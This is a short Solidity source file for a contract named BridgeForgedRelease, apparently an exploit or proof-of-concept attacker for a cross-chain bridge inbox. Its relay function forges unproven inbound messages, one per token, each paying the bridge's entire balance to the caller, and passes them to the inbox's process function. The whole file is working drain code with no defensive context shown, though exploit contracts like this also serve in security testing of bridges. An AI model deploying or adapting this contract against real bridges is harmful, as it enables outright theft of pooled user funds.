// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "../interfaces/IERC20.sol";
import {BridgeInbox} from "../bridge/BridgeInbox.sol";

/// @notice Submits, for each token, a fabricated inbound message paying the bridge's whole
/// balance of it to the caller, without any proof.
contract BridgeForgedRelease {
    function relay(BridgeInbox inbox, address[] calldata tokens, uint64 firstNonce) external {
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 amount = IERC20(tokens[i]).balanceOf(address(inbox));
            bytes memory message = abi.encode(
                inbox.remoteDomain(), inbox.localDomain(), firstNonce + uint64(i), tokens[i], msg.sender, amount
            );
            inbox.process(message);
        }
    }
}
